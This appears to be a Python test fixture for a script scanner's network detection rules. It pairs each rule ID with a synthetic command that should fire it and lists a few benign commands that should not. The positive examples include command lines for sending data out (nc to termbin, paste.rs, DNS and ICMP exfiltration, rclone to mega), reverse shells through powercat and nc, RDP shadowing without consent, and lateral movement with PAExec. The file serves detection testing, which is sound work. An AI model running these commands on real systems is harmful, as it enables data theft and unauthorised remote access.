"""Examples for the network `TWN-` rules; every text is synthetic, written for these tests."""

from __future__ import annotations

from wingman.core.scripts.types import Lang

PS = Lang.POWERSHELL
BAT = Lang.BATCH
SH = Lang.BASH

# (rule id, language of the layer, text that must fire the rule)
POSITIVE: tuple[tuple[str, Lang, str], ...] = (
    (
        "TWN-050",
        BAT,
        "netsh interface portproxy add v4tov4 listenport=1337 connectport=1337"
        " connectaddress=127.0.0.1",
    ),
    (
        "TWN-050",
        PS,
        'New-ItemProperty -Path "HKLM:\\SYSTEM\\CurrentControlSet\\Services\\PortProxy\\v4tov4'
        '\\tcp" -Name "0.0.0.0/1337" -Value "127.0.0.1/1337"',
    ),
    ("TWN-051", BAT, "netsh winhttp set proxy 127.0.0.1:8080"),
    (
        "TWN-051",
        BAT,
        'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings" /v'
        " ProxyServer /t REG_SZ /d 127.0.0.1:8080 /f",
    ),
    ("TWN-051", SH, "networksetup -setwebproxy Wi-Fi 127.0.0.1 8080"),
    ("TWN-052", SH, "export http_proxy=http://127.0.0.1:8080"),
    ("TWN-053", SH, "sudo systemctl start tor"),
    ("TWN-053", SH, 'osascript -e \'tell application "Terminal" to do script "tor"\''),
    ("TWN-053", PS, 'Start-Process "$env:TEMP\\tor\\tor.exe"'),
    ("TWN-054", PS, "Invoke-RestMethod 'https://dns.google/resolve?name=example.org&type=TXT'"),
    ("TWN-054", SH, "curl -s -H 'accept: application/dns-json' https://1.1.1.1/dns-query?name=x"),
    ("TWN-055", BAT, "devtunnel host -p 8080 --allow-anonymous"),
    ("TWN-055", BAT, "code tunnel --accept-server-license-terms"),
    ("TWN-056", BAT, 'curl.exe -s -A "HttpBrowser/1.0" -m3 example.org'),
    ("TWN-056", SH, "wget -U 'Wget/1.9+cvs-stable' http://example.org/"),
    (
        "TWN-057",
        BAT,
        'curl -s -A "HttpBrowser/1.0" example.org\ncurl -s -A "Opera/8.81 (Windows NT 6.0)"'
        " example.org",
    ),
    (
        "TWN-057",
        PS,
        "Invoke-WebRequest example.org -UserAgent 'Agent-A'\n"
        "Invoke-WebRequest example.org -UserAgent 'Agent-B'",
    ),
    ("TWN-058", SH, 'url=$(curl -s -X POST -d "$(id)" "https://paste.rs")'),
    ("TWN-058", SH, "uname -a | nc termbin.com 9999"),
    (
        "TWN-059",
        PS,
        "Invoke-RestMethod -Uri https://content.dropboxapi.com/2/files/upload -Method Post"
        " -InFile $f",
    ),
    ("TWN-060", PS, "powercat -c 192.0.2.10 -p 443 -e cmd"),
    ("TWN-060", PS, "Invoke-PowerShellIcmp -IPAddress 192.0.2.10"),
    ("TWN-061", BAT, "nc.exe 192.0.2.10 4444"),
    ("TWN-062", SH, 'ping -c 1 -p "$(xxd -p -l 16 /etc/hostname)" 192.0.2.10'),
    ("TWN-063", PS, "Invoke-DNSExfiltrator -i data.zip -d exfil.example.org -p secret -doh google"),
    ("TWN-064", SH, "tar czf - /home/user/docs | ssh user@192.0.2.10 'cat > docs.tgz'"),
    ("TWN-064", SH, 'ssh target.example.org "(cd /etc && tar -zcvf - *)" > ./etc.tar.gz'),
    (
        "TWN-065",
        PS,
        'Invoke-WebRequest -Uri "ftp://example.org/a.txt" -Method Put -InFile "C:\\temp\\a.txt"',
    ),
    ("TWN-066", PS, 'Invoke-WebRequest -Uri "ftp://example.org/a.txt" -InFile "C:\\temp\\a.txt"'),
    ("TWN-066", SH, "curl -T /tmp/loot.tgz ftp://example.org/upload/ --user u:p"),
    ("TWN-067", BAT, "rclone.exe copy C:\\Users\\Public\\loot remote:loot -q"),
    ("TWN-067", BAT, "rclone config create remote mega user a@example.org pass secret"),
    ("TWN-068", BAT, "mstsc /v:10.0.0.5"),
    ("TWN-069", BAT, "cmdkey /generic:TERMSRV/10.0.0.5 /user:corp\\admin /pass:Passw0rd"),
    (
        "TWN-070",
        BAT,
        'reg add "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp"'
        " /v PortNumber /t REG_DWORD /d 4489 /f",
    ),
    (
        "TWN-070",
        BAT,
        'reg add "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server" /v'
        " fSingleSessionPerUser /t REG_DWORD /d 0 /f",
    ),
    ("TWN-071", BAT, "mstsc.exe /shadow:2 /noconsentprompt /control"),
    ("TWN-072", PS, "Enable-PSRemoting -Force"),
    ("TWN-073", PS, 'Set-Item WSMan:\\localhost\\Client\\TrustedHosts -Value "*" -Force'),
    (
        "TWN-075",
        PS,
        '$c = [activator]::CreateInstance([type]::GetTypeFromProgID("Excel.Application", "srv01"))',
    ),
    ("TWN-075", PS, "$excel.DDEInitiate('cmd', '/c calc')"),
    ("TWN-076", PS, "Copy-Item -Path .\\tool.exe -Destination C:\\Windows\\Temp -ToSession $s"),
    ("TWN-077", BAT, "PAExec.exe \\\\10.0.0.5 -s cmd /c whoami"),
    (
        "TWN-078",
        PS,
        'Invoke-WebRequest -OutFile "$env:TEMP\\AnyDesk.exe" https://download.example/AnyDesk.exe',
    ),
)

# (language, text) that no rule may judge suspicious
BENIGN: tuple[tuple[Lang, str], ...] = (
    (SH, 'curl -fsSL -A "Mozilla/5.0" https://example.org/feed.xml -o feed.xml'),
    (SH, "export https_proxy=http://proxy.corp.example:3128\napt-get update"),
    (PS, "Invoke-WebRequest https://example.org/api -Method Post -Body $json"),
    (BAT, "mstsc /v:terminal01.corp.example /admin"),
    (SH, "tar czf backup.tgz /srv/data\nscp backup.tgz backup@nas:/volume1/"),
    (PS, "Enable-PSRemoting -SkipNetworkProfileCheck -Force"),
)
